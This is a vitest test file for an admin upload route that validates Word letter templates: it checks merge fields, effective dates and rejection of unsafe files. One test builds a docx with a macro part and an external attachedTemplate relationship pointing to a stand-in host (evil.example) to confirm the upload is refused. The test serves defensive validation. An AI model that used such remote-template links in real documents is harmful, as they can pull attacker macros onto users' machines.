import { mkdirSync, rmSync } from "node:fs";
import { join } from "node:path";
import PizZip from "pizzip";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Store } from "@/db/client";
import { templateVersions } from "@/db/queries/letter-templates";
import { accountForTest, proofOf } from "@/db/test-staff";
import { openTestStore } from "@/db/test-store";
import { today } from "@/server/clock";
import { defaultTemplate } from "@/server/letters/default-template";
import { as, cookieOf } from "@/server/staff-calls-for-tests";
import { POST } from "./[letter]/files/route";

const folder = await vi.hoisted(async () => {
  const { mkdtempSync } = await import("node:fs");
  const { tmpdir } = await import("node:os");
  const made = mkdtempSync(`${tmpdir()}/mingchuang-templates-`);
  process.env.DATA_DIR = made;
  return made;
});

vi.mock("next/headers", async () => (await import("@/server/staff-calls-for-tests")).nextHeaders);
vi.mock("next/navigation", async () => (await import("@/server/staff-calls-for-tests")).nextNavigation);

const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const admin = proofOf<"site.manage">("x", ["systemAdmin"]);
let store: Store;
let cookie = "";

beforeAll(async () => {
  mkdirSync(join(folder, "tmp"), { recursive: true });
  store = openTestStore();
  cookie = await cookieOf(await accountForTest("admin", ["systemAdmin"]));
});
afterAll(() => {
  store.close();
  rmSync(folder, { recursive: true, force: true });
});

async function upload(bytes: Uint8Array, more: { letter?: string; effectiveOn?: string } = {}) {
  const { letter = "receipt", effectiveOn = today() } = more;
  const form = new FormData();
  form.set("file", new File([new Uint8Array(bytes)], "接收回执.docx", { type: WORD }));
  form.set("agency", "");
  form.set("effectiveOn", effectiveOn);
  const call = new Request(`http://localhost/admin/letter-templates/${letter}/files`, {
    method: "POST",
    body: form,
  });
  const answer = await as(cookie, () => POST(call, { params: Promise.resolve({ letter }) }));
  if (!(answer instanceof Response)) throw new Error(`left: ${JSON.stringify(answer)}`);
  return { status: answer.status, to: answer.headers.get("location"), text: await answer.text() };
}
async function changed(change: (zip: PizZip) => void) {
  const zip = new PizZip((await defaultTemplate("receipt")) as Uint8Array<ArrayBuffer>);
  change(zip);
  return new Uint8Array(zip.generate({ type: "uint8array", compression: "DEFLATE" }));
}
const wordsChanged = (from: string, to: string) =>
  changed((zip) => {
    zip.file("word/document.xml", (zip.file("word/document.xml")?.asText() ?? "").replace(from, to));
  });

describe("uploading a template", () => {
  it("makes a version of a good one", async () => {
    const bytes = await wordsChanged("本机关已经登记", "本机关已经登记在册");
    expect(await upload(bytes)).toMatchObject({
      status: 303,
      to: "/admin/letter-templates/receipt?done=done",
    });
    expect(await templateVersions(admin)).toMatchObject([
      { letter: "receipt", version: 1, fileName: "接收回执.docx", agencyName: null, effectiveOn: today() },
    ]);
  });

  it("says of a bad one what is wrong, and keeps what is in force", async () => {
    const unknown = await upload(await wordsChanged("{答复期限}", "{答复日}"));
    expect(unknown.status).toBe(422);
    expect(unknown.text).toContain("有不认识的合并域：{答复日}");
    expect(unknown.text).toContain("缺少这种文书必须写明的内容：{答复期限}");
    expect((await upload(await defaultTemplate("receipt"), { effectiveOn: "2020-01-01" })).status).toBe(422);
    expect((await upload(await defaultTemplate("receipt"), { letter: "nothing" })).status).toBe(404);
    expect(await templateVersions(admin)).toHaveLength(1);
  });

  it("UP-015, UP-017 refuses macros and parts that are fetched from elsewhere", async () => {
    const macros = await changed((zip) => {
      zip.file("word/vbaProject.bin", "x");
    });
    expect((await upload(macros)).status).toBe(422);
    const remote = await changed((zip) => {
      const rels = zip.file("word/_rels/document.xml.rels")?.asText() ?? "";
      const link =
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
      zip.file("word/_rels/document.xml.rels", rels.replace("</Relationships>", link));
    });
    expect((await upload(remote)).status).toBe(422);
    expect(await templateVersions(admin)).toHaveLength(1);
  });
});
